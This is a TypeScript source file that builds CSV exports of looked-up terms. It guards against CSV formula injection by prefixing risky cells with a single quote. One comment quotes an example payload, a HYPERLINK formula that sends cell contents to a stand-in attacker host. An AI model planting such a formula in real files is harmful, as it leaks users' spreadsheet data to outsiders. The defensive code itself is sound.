import { formatDate, type ExportItem } from './export';

/** The columns of a CSV export, in order. */
export const EXPORT_COLUMNS = ['term', 'definition', 'sentence', 'url', 'date'] as const;

/**
 * First characters that make a spreadsheet read a cell as a formula (=, +, -, @) or that
 * some read past to one (tab, carriage return). A sentence comes from a web page, and a page
 * can plant `=HYPERLINK("https://evil.example?"&A1, "Click")` in the text a reader hovers.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A cell as written to the file: a value that could start a formula gets a leading single
 * quote, which spreadsheets take as "this is text" (OWASP's advice for CSV injection); then
 * quoted per RFC 4180 when it holds a comma, a quote or a line break.
 */
export function csvCell(value: string): string {
  const safe = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** Rows as CSV: CRLF line ends (RFC 4180) after a byte-order mark, so Excel reads it as UTF-8. */
export function toCsv(rows: readonly (readonly string[])[]): string {
  return `\uFEFF${rows.map((row) => row.map(csvCell).join(',')).join('\r\n')}\r\n`;
}

/** The CSV export: term, definition, sentence, url, date (local time), one row per item. */
export function exportCsv(items: readonly ExportItem[]): string {
  return toCsv([
    EXPORT_COLUMNS,
    ...items.map(({ entry, lookup, at }) => [entry.term, entry.short, lookup?.sentence ?? '', lookup?.url ?? '', formatDate(at)]),
  ]);
}
